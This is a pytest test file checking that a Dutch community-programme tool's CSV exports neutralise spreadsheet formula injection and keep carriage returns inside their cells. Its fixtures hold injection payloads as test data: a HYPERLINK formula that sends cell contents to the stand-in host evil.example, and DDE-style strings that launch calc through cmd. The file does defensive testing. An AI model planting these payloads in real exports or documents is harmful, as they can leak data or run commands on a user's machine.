"""Issue 15, item 2: CSV for spreadsheets never carries a cell a spreadsheet would run as a formula.

A person named `=HYPERLINK("http://evil.example/?"&A1,"klik")` (and text starting with + - @)
reaches every `--format csv` of the installed command with a single quote in front; plain
numbers (a negative baseline) stay numbers; `audit query --raw-csv` and JSON keep the text as stored.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest
import sqlalchemy as sa
from conftest import ADMIN, PL, SG1

from wijkflow import services
from wijkflow.reminders.sweep import sweep
from wijkflow.spreadsheet import csv_text, spreadsheet_cell

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
EVIL_EMAIL = "=cmd|calc@evil.example"
WIJK = "@SUM(1+1)*cmd|' /C calc'!A0"
GEMEENTE = "+31 Hengelo"
EVIDENCE = "-2+3 rapport.pdf"
REASON = "=1+1 bestuurlijk besluit"
LABEL = "-Veiligheidsbeleving"
ACTIVITY = "=Buurtfeest"
PARTNER = "-Woonbedrijf"
PLAIN = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


@pytest.mark.parametrize(("text", "cell"), [
    (EVIL, "'" + EVIL), ("+31 6 1234", "'+31 6 1234"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("+", "'+"), ("-inf", "'-inf"), ("- 3", "'- 3"),
    ("-3,5", "'-3,5"), ("-3.5\n", "'-3.5\n"), ("-٣", "'-٣"),
    ("-3.5", "-3.5"), ("+2", "+2"), ("-1e-05", "-1e-05"), ("-.5", "-.5"), ("3.", "3."), ("12", "12"),
    ("Noord", "Noord"), ("a=b", "a=b"), (" =1", " =1"), ("", ""), (None, None), ("'=1", "'=1"),
])
def test_one_rule_for_every_cell(text, cell):
    assert spreadsheet_cell(text) == cell


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_safe(text: str, *expected: str) -> list[str]:
    """No cell could start a formula, and each `expected` text is there with its quote."""
    found = cells(text)
    assert found, text
    risky = [c for c in found if c and c[0] in "=+-@\t\r" and not PLAIN.fullmatch(c)]
    assert not risky, risky
    for e in expected:
        assert "'" + e in found, (e, found)
    return found


@pytest.fixture
def evil(app, people, clock) -> str:
    """An aanpak led by the person with the formula for a name, with text that looks like formulas
    everywhere a CSV shows it: wijk, gemeente, evidence, reason, indicator, plan, reminders."""
    services.add_person(app, EVIL_EMAIL, name=EVIL, acting=ADMIN)
    slug = services.create_aanpak(app, "Wijkaanpak Oost", wijk=WIJK, gemeente=GEMEENTE, leader=EVIL_EMAIL,
                                  approvers=(SG1,), acting=EVIL_EMAIL, phase="monitor",
                                  since="2025-07-01")["slug"]
    services.complete(app, slug, "monitoringsrapportage", evidence=EVIDENCE, acting=EVIL_EMAIL)
    services.add_indicator(app, slug, "veiligheid", label=LABEL, baseline="-3.5", target="2", acting=EVIL_EMAIL)
    services.measure(app, slug, "veiligheid", "-1.25", acting=EVIL_EMAIL)
    services.add_partner(app, slug, PARTNER, acting=EVIL_EMAIL)
    services.add_activity(app, slug, ACTIVITY, partner=PARTNER, year=2026, acting=EVIL_EMAIL)
    assert sweep(app).sent >= 1  # reminders to the leader, written to the outbox
    services.advance(app, slug, acting=ADMIN, override=True, reason=REASON)
    return slug


def ok(proc) -> str:
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


def test_every_csv_of_the_installed_command_neutralises_formulas(sh, evil):
    assert_safe(ok(sh("people", "list", "--format", "csv", user=ADMIN)), EVIL, EVIL_EMAIL)
    assert_safe(ok(sh("list", "--format", "csv", user=ADMIN)), WIJK, GEMEENTE)
    found = assert_safe(ok(sh("indicators", evil, "--format", "csv", user=ADMIN)), LABEL)
    assert "-3.5" in found and "-1.25" in found  # numbers stay numbers
    assert_safe(ok(sh("history", evil, "--format", "csv", user=ADMIN)), EVIL, EVIL_EMAIL, EVIDENCE, REASON)
    assert_safe(ok(sh("audit", "query", "--format", "csv", user=ADMIN)), EVIL, EVIL_EMAIL, EVIDENCE, REASON,
                WIJK, GEMEENTE)
    assert_safe(ok(sh("audit", "phases", "--format", "csv", user=ADMIN)), WIJK, GEMEENTE)
    assert_safe(ok(sh("plan", "show", evil, "--format", "csv", user=ADMIN)), ACTIVITY, PARTNER)
    assert_safe(ok(sh("reminders", "list", "--format", "csv", user=ADMIN)), EVIL_EMAIL)


def test_json_and_raw_csv_keep_the_text_as_stored(sh, evil):
    people = json.loads(ok(sh("people", "list", "--format", "json", user=ADMIN)))
    assert EVIL in [p["name"] for p in people]
    raw = cells(ok(sh("audit", "query", "--format", "csv", "--raw-csv", user=ADMIN)))
    for text in (EVIL, EVIL_EMAIL, EVIDENCE, REASON, WIJK, GEMEENTE):
        assert text in raw and "'" + text not in raw
    events = [json.loads(line) for line in ok(sh("audit", "query", "--format", "jsonl", user=ADMIN)).splitlines()]
    assert any(e["reason"] == REASON for e in events)
    r = sh("audit", "query", "--raw-csv", user=ADMIN)
    assert r.returncode == 2 and r.stdout == "" and "--raw-csv goes with --format csv" in r.stderr
    assert "Traceback" not in r.stderr


def test_a_cell_with_a_lone_carriage_return_is_quoted_so_the_row_stays_one_row():
    """Before: csv.writer(lineterminator="\\n") left 'regel 1\\rregel 2' bare, and a reader (Python's csv,
    a spreadsheet) took the CR for the end of the row."""
    text = csv_text([["1", "regel 1\rregel 2", "x"], ["2", "a\nb", "y"], ["3", "c\r\nd", "z"]])
    assert text == '1,"regel 1\rregel 2",x\n2,"a\nb",y\n3,"c\r\nd",z\n'
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["1", "regel 1\rregel 2", "x"], ["2", "a\nb", "y"],
                                                               ["3", "c\r\nd", "z"]]


def test_every_csv_of_the_command_keeps_a_carriage_return_inside_its_cell(app, people, aanpak, run, db_url):
    """Input refuses a lone CR today, but a database written before (or by hand) can hold one: a name here."""
    name = "Fleur\rMensink"
    engine = sa.create_engine(db_url if "://" in db_url else f"sqlite:///{db_url}")
    with engine.begin() as conn:
        conn.execute(sa.text("UPDATE person SET name = :n WHERE email = :e"), {"n": name, "e": PL})
    engine.dispose()
    for argv in (["people", "list", "--format", "csv"], ["history", aanpak, "--format", "csv"],
                 ["audit", "query", "--format", "csv"], ["audit", "query", "--format", "csv", "--raw-csv"]):
        r = run(*argv, user=ADMIN)
        assert r.exit_code == 0, r.stderr
        rows = list(csv.reader(io.StringIO(r.stdout, newline="")))
        assert len({len(row) for row in rows}) == 1, (argv, r.stdout)  # no row split in two
        assert name in [c for row in rows for c in row], argv
